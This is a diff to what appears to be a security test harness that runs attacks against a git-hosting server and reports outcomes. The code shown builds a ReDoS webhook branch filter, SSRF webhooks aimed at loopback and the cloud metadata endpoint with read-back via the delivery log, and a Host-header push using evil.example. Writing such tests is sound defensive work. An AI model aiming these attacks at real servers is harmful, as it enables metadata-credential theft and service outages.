@@ -2,7 +2,7 @@
 import { setTimeout as sleep } from 'node:timers/promises';
 import { bearer, json, type Account } from '../api.js';
 import type { Attack, AttackContext } from '../attack.js';
-import { pushOutcome, repoWithFiles, strikeGit } from '../git-push.js';
+import { pushOutcome, repoWithFiles, strikeGit, verdict } from '../git-push.js';
 import { shortBody } from '../http.js';
 
 /** 21 characters that picomatch turns into nested lazy quantifiers: no 44-character name of a's matches, after ~C(44, 9) tries. */
@@ -35,7 +35,7 @@ const redos: Attack = {
     const repo = await pushedRepo(ctx, attacker);
     const saved = await ctx.api.createHook(attacker, `${attacker.name}/${repo.name}`, ctx.receiver.url(repo.name), { branch_filter: BACKTRACKING_FILTER });
     const hookAnswer = saved.status === 201 ? 'hook saved' : `hook refused ${saved.status} (${shortBody(saved.body, 50)})`;
-    return async (limits) => `${hookAnswer}; push of a ${BRANCH.length}-char branch ${await pushOutcome(strikeGit(limits), [repo.url, `main:refs/heads/${BRANCH}`], repo.dir)}`;
+    return async (limits) => `${hookAnswer}; push of a ${BRANCH.length}-char branch: ${verdict(await pushOutcome(strikeGit(limits), [repo.url, `main:refs/heads/${BRANCH}`], repo.dir))}`;
   },
 };
 
@@ -51,18 +51,18 @@ const ssrf: Attack = {
     const scope = `${attacker.name}/${repo.name}`;
     return async () => {
       const port = new URL(ctx.target.base()).port;
-      const answers: string[] = [];
+      const refused: string[] = [];
       let loopbackHook: number | undefined;
       for (const host of FORBIDDEN_TARGETS) {
         // The server's own port on loopback: what it answers comes back in the delivery log.
         const url = host === '127.0.0.1' ? `http://${host}:${port}/healthz` : `http://${host}/latest/meta-data/`;
         const answer = await ctx.api.createHook(attacker, scope, url);
-        answers.push(`${host} ${answer.status}`);
-        if (host === '127.0.0.1' && answer.status === 201) loopbackHook = json<{ id: number }>(answer).id;
+        if (answer.status !== 201) refused.push(`${host} ${answer.status}`);
+        else if (host === '127.0.0.1') loopbackHook = json<{ id: number }>(answer).id;
       }
-      let readBack = '';
-      if (loopbackHook !== undefined) readBack = `; loopback answer read back: ${await pingAndReadResponse(ctx, attacker, scope, loopbackHook)}`;
-      return `${answers.join(', ')}${readBack}`;
+      const saved = `${FORBIDDEN_TARGETS.length - refused.length}/${FORBIDDEN_TARGETS.length} hooks saved${refused.length ? ` (refused: ${refused.join(', ')})` : ''}`;
+      if (loopbackHook === undefined) return saved;
+      return `${saved}; log shows loopback's answer: ${await pingAndReadResponse(ctx, attacker, scope, loopbackHook)}`;
     };
   },
 };
@@ -121,7 +121,7 @@ const hostHeader: Attack = {
       const pushed = await pushOutcome(strikeGit(limits), [repo.url, 'main:refs/heads/evil'], repo.dir, ['-c', 'http.extraHeader=Host: evil.example']);
       const delivery = await ctx.receiver.waitFor(repo.name, 'push', DELIVERY_WAIT_MS);
       const payload = delivery?.payload as { repository?: { clone_url?: string; html_url?: string } } | undefined;
-      return `push ${pushed.split(':')[0]}; payload clone_url=${payload?.repository?.clone_url ?? '(no delivery)'}`;
+      return `push ${verdict(pushed)}; payload clone_url=${payload?.repository?.clone_url ?? '(no delivery)'}`;
     };
   },
 };
